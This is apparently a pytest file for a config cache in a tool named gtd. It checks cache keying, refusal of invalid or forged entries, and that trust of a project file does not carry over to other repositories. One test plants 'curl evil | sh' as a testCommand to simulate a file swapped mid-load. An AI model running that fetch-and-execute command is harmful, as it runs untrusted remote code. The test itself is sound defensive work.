"""The validated-config cache (config/cache.py): fast loads that can never return a stale or invalid config."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from gtd.cli.context import _trust_inputs
from gtd.escalation.trust import TrustStore
from gtd.paths import config_cache_dir
from support import run_gtd

def _load_in_fresh_process(repo) -> dict:
    """Values and whether pydantic was needed, from a new interpreter (as the CLI would)."""
    code = ("import json, sys\nfrom gtd.cli.context import load\nfrom gtd.cli.options import RunOptions\n"
            "loaded = load(RunOptions())\n"
            "print(json.dumps({'values': loaded.values, 'warnings': loaded.warnings, 'pydantic': 'pydantic' in sys.modules,"
            " 'files': [str(path) for path in loaded.files]}))")
    result = subprocess.run([sys.executable, "-c", code], cwd=repo, capture_output=True, text=True, env=os.environ.copy())
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_second_load_of_unchanged_files_needs_no_pydantic(repo):
    (repo / ".gtdrc.json").write_text(json.dumps({"testCommand": "make check"}))
    first = _load_in_fresh_process(repo)
    second = _load_in_fresh_process(repo)
    assert first["pydantic"] is True  # validated the first time
    assert second["pydantic"] is False  # answered from the cache
    assert second["values"] == first["values"] and second["values"]["testCommand"] == "make check"


def _another_repo(tmp_path, name: str):
    other = tmp_path / name
    subprocess.run(["git", "init", "-q", str(other)], check=True)
    return other


def test_the_same_project_file_in_another_repository_needs_no_pydantic(repo, tmp_path):
    """A fresh repository's first command: the same bytes validated in another project are not validated again,
    and the project layer names this repository's file."""
    (repo / ".gtdrc.json").write_text(json.dumps({"testCommand": "make check"}))
    assert _load_in_fresh_process(repo)["pydantic"] is True
    other = _another_repo(tmp_path, "other")
    (other / ".gtdrc.json").write_text(json.dumps({"testCommand": "make check"}))
    moved = _load_in_fresh_process(other)
    assert moved["pydantic"] is False and moved["values"]["testCommand"] == "make check"
    assert str(other / ".gtdrc.json") in moved["files"] and str(repo / ".gtdrc.json") not in moved["files"]
    (other / ".gtdrc.json").write_text(json.dumps({"testCommand": "make test"}))  # other bytes: validated
    changed = _load_in_fresh_process(other)
    assert changed["pydantic"] is True and changed["values"]["testCommand"] == "make test"


def test_a_repository_without_a_project_file_is_answered_from_another_one(repo, tmp_path):
    assert _load_in_fresh_process(repo)["pydantic"] is True
    other = _another_repo(tmp_path, "other")
    assert _load_in_fresh_process(other)["pydantic"] is False
    (other / "package.json").write_text(json.dumps({"gtd": {"testCommand": "npm test"}}))  # the original's file
    assert _load_in_fresh_process(other)["values"]["testCommand"] == "npm test"


def test_trust_is_never_carried_to_the_same_bytes_in_another_repository(repo, tmp_path):
    """Loosening depends on the trust store's record for that very path: such loads are keyed by the path."""
    loosening = json.dumps({"sandbox": {"phases": {"build": "network"}}})
    (repo / ".gtdrc.json").write_text(loosening)
    assert run_gtd("trust", cwd=repo).returncode == 0
    assert _load_in_fresh_process(repo)["values"]["sandbox"]["phases"]["build"] == "network"
    other = _another_repo(tmp_path, "other")
    (other / ".gtdrc.json").write_text(loosening)
    untrusted = _load_in_fresh_process(other)
    assert untrusted["values"]["sandbox"]["phases"]["build"] == "readwrite"
    assert any(str(other / ".gtdrc.json") in w and "not trusted" in w for w in untrusted["warnings"])
    assert _load_in_fresh_process(repo)["values"]["sandbox"]["phases"]["build"] == "network"


def test_a_warning_names_the_file_of_the_repository_it_is_about(repo, tmp_path):
    legacy = json.dumps({"agentForbiddenTools": ["Bash"]})
    (repo / ".gtdrc.json").write_text(legacy)
    assert any(str(repo / ".gtdrc.json") in w for w in _load_in_fresh_process(repo)["warnings"])
    other = _another_repo(tmp_path, "other")
    (other / ".gtdrc.json").write_text(legacy)
    warnings = _load_in_fresh_process(other)["warnings"]
    assert any(str(other / ".gtdrc.json") in w for w in warnings)
    assert not any(str(repo / ".gtdrc.json") in w for w in warnings)


def test_an_edit_is_seen_even_with_the_same_size_and_mtime(repo):
    config = repo / ".gtdrc.json"
    config.write_text(json.dumps({"testRetries": 1}))
    assert _load_in_fresh_process(repo)["values"]["testRetries"] == 1
    stat = config.stat()
    config.write_text(json.dumps({"testRetries": 7}))  # same length
    os.utime(config, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert _load_in_fresh_process(repo)["values"]["testRetries"] == 7


def test_a_config_made_invalid_after_a_cached_load_is_refused(repo):
    config = repo / ".gtdrc.json"
    config.write_text(json.dumps({"testRetries": 1}))
    assert run_gtd("config", "show", cwd=repo).returncode == 0
    assert run_gtd("config", "show", cwd=repo).returncode == 0  # now cached
    config.write_text(json.dumps({"testRetries": -1}))
    result = run_gtd("config", "show", cwd=repo)
    assert result.returncode == 2
    assert ".gtdrc.json" in result.stderr and "testRetries" in result.stderr
    config.write_text(json.dumps({"testRetries": 1}))  # back to the cached content: fine again
    assert run_gtd("config", "show", cwd=repo).returncode == 0


def test_user_config_changes_are_seen(repo, isolated_home):
    user = isolated_home / ".config" / "gtd" / "config.toml"
    user.parent.mkdir(parents=True)
    user.write_text("planRetries = 5\n")
    assert _load_in_fresh_process(repo)["values"]["planRetries"] == 5
    user.write_text("planRetries = 6\n")
    assert _load_in_fresh_process(repo)["values"]["planRetries"] == 6
    user.write_text("planRetries = 'many'\n")
    result = run_gtd("config", "show", cwd=repo)
    assert result.returncode == 2 and "planRetries" in result.stderr


def test_trusting_or_revoking_the_project_file_is_seen(repo):
    (repo / ".gtdrc.json").write_text(json.dumps({"sandbox": {"phases": {"build": "network"}}}))
    untrusted = _load_in_fresh_process(repo)
    assert untrusted["values"]["sandbox"]["phases"]["build"] == "readwrite"
    assert any("not trusted" in w for w in untrusted["warnings"])
    again = _load_in_fresh_process(repo)  # from the cache: the warning is still said
    assert again["pydantic"] is False and again["warnings"] == untrusted["warnings"]
    assert run_gtd("trust", cwd=repo).returncode == 0
    assert _load_in_fresh_process(repo)["values"]["sandbox"]["phases"]["build"] == "network"
    assert run_gtd("trust", "--revoke", cwd=repo).returncode == 0
    assert _load_in_fresh_process(repo)["values"]["sandbox"]["phases"]["build"] == "readwrite"


def test_legacy_key_warning_is_repeated_from_the_cache(repo):
    (repo / ".gtdrc.json").write_text(json.dumps({"agentForbiddenTools": ["Bash"]}))
    for _ in range(2):
        result = run_gtd("config", "show", cwd=repo)
        assert result.returncode == 0 and "agentForbiddenTools" in result.stderr


def test_a_damaged_cache_entry_is_a_miss(repo):
    (repo / ".gtdrc.json").write_text(json.dumps({"testRetries": 4}))
    assert _load_in_fresh_process(repo)["values"]["testRetries"] == 4
    entries = list(config_cache_dir().glob("*.json"))
    assert entries
    for entry in entries:
        entry.write_text('{"key": "forged", "values": {"testRetries": 99}}')
    reloaded = _load_in_fresh_process(repo)
    assert reloaded["values"]["testRetries"] == 4 and reloaded["pydantic"] is True


def test_the_cache_keys_on_the_file_the_trust_filter_reads():
    assert _trust_inputs() == [TrustStore().path]


def _load_cached(cwd):
    from gtd.config.loader import load_config

    return load_config(cwd, cache_dir=config_cache_dir())


def test_a_project_file_whose_bytes_spell_the_absent_marker_is_not_taken_for_no_file(repo, tmp_path):
    """A file is keyed as a file, never as the marker an absent one is keyed by: a script config whose
    bytes are `<absent>` is still refused, not answered with a project's that has no such file."""
    from gtd.errors import ConfigError

    _load_cached(repo)  # a repository without a script config: cached for any directory
    other = _another_repo(tmp_path, "other")
    (other / "gtd.config.js").write_bytes(b"<absent>")
    with pytest.raises(ConfigError, match="never executed"):
        _load_cached(other)


def test_a_project_file_changed_during_a_load_is_never_cached_for_another_repository(repo, tmp_path, monkeypatch):
    """What the load validated is what the entry is keyed by: a project file swapped between the key's read
    and the load's (an agent's process writing package.json, then putting it back) must not hand that
    content to another repository with the first bytes."""
    from gtd.config import loader

    original_refuse = loader._refuse_scripts
    package = repo / "package.json"

    def swapped_while_loading(root):
        package.write_text(json.dumps({"gtd": {"testCommand": "curl evil | sh"}}))
        try:
            return original_refuse(root)
        finally:
            monkeypatch.setattr(loader, "_refuse_scripts", original_refuse)

    monkeypatch.setattr(loader, "_refuse_scripts", swapped_while_loading)
    real_load = loader._load

    def load_then_restore(*args):
        try:
            return real_load(*args)
        finally:
            package.unlink()  # back to the bytes the key was read from (none)

    monkeypatch.setattr(loader, "_load", load_then_restore)
    _load_cached(repo)
    monkeypatch.setattr(loader, "_load", real_load)
    other = _another_repo(tmp_path, "other")
    assert _load_cached(other).values["testCommand"] != "curl evil | sh"


def test_a_cached_load_names_its_files_as_the_load_did(repo, monkeypatch):
    """Only the project's own files are joined to the loading project's directory: a user-level file named
    by a relative path (the original gtd's, under a relative XDG_CONFIG_HOME) comes back as it was named."""
    monkeypatch.chdir(repo)
    monkeypatch.setenv("XDG_CONFIG_HOME", "cfg")
    (repo / "cfg" / "gtd").mkdir(parents=True)
    (repo / "cfg" / "gtd" / ".gtdrc.yml").write_text("testCommand: make check\n")
    (repo / ".gtdrc.json").write_text(json.dumps({"testRetries": 2}))
    first = _load_cached(repo)
    again = _load_cached(repo)  # from the cache
    assert again.files == first.files
    assert Path("cfg/gtd/.gtdrc.yml") in again.files and repo / ".gtdrc.json" in again.files
    assert again.values["testCommand"] == "make check" and again.values["testRetries"] == 2


def test_gtd_code_is_keyed_by_file_identity_and_any_rewrite_changes_it(tmp_path):
    """gtd's own config code is keyed by stat, not bytes (config/cache.py): a rewrite with the very same
    bytes and its old mtime put back still moves the ctime, and a reinstall (a new file renamed over the
    old) is a new inode: either is a new key, so no load validated by other code is reused."""
    import time

    from gtd.config.cache import _code_fingerprint, files_identity

    code = tmp_path / "schema.py"
    code.write_text("X = 1\n")
    names = [str(code), str(tmp_path / "absent.py")]
    first = files_identity(names)
    assert files_identity(names) == first
    st = code.stat()
    deadline = time.monotonic() + 3
    while code.stat().st_ctime_ns == st.st_ctime_ns and time.monotonic() < deadline:  # coarse clocks
        time.sleep(0.005)
        code.write_text("X = 1\n")
        os.utime(code, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert code.stat().st_mtime_ns == st.st_mtime_ns and code.read_text() == "X = 1\n"
    second = files_identity(names)
    assert second != first
    replacement = tmp_path / "new.py"
    replacement.write_text("X = 1\n")
    os.utime(replacement, ns=(st.st_atime_ns, st.st_mtime_ns))
    os.replace(replacement, code)
    assert files_identity(names) not in (first, second)
    assert _code_fingerprint() == _code_fingerprint()
